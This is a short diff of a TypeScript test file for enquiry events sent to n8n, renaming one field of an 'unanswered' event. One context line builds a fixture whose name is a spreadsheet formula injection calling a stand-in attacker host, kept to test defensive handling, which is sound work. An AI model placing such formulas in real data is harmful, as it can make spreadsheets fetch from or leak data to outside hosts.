@@ -19,7 +19,7 @@ const record = { ...sampleRecord(), name: '=IMPORTXML("https://evil.example")' }
 const { reference } = record;
 const answeredUrl = 'https://quotes.example/answered?reference=R';
 const created: EnquiryEvent = { name: 'created', record, answeredUrl };
-const unanswered: EnquiryEvent = { name: 'unanswered', about: record, at: record.receivedAt, answeredUrl };
+const unanswered: EnquiryEvent = { name: 'unanswered', record, at: record.receivedAt, answeredUrl };
 const erased: EnquiryEvent = { name: 'erased', reference, at: record.receivedAt };
 
 test('n8n takes what is signed, and nothing else', async () => {
